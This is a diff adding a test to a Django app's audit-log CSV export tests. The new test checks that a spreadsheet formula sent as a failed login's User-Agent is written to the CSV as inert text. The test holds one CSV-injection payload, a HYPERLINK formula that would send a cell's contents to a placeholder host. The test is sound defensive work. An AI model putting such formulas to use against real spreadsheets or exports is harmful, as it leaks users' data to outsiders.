@@ -164,3 +164,14 @@ def test_the_csv_starts_with_a_byte_order_mark_and_reads_in_thai(two_memos: tupl
     assert thai.thai_digits(thai.be_year(thai.bangkok_now().year)) in submitted[1]  # a Buddhist-era date
     assert submitted[4] == person("rujapa").full_name
     assert all(r[7] == str(mine.pk) for r in data)  # the filter holds in the export too
+
+
+def test_a_formula_typed_by_a_stranger_reaches_the_csv_as_text(two_memos: Any) -> None:
+    """Whoever fails to sign in chooses the browser name the audit log keeps: in the CSV, a cell starting like a
+    formula is written as text, so the auditor's spreadsheet does not run it."""
+    formula = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+    Client(HTTP_USER_AGENT=formula).post("/accounts/login/", {"username": "nobody", "password": "wrong"})
+    response = client_for("auditor").get("/audit/export.csv", {"action": "auth.sign_in_failed"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
+    assert cells == ["'" + formula]
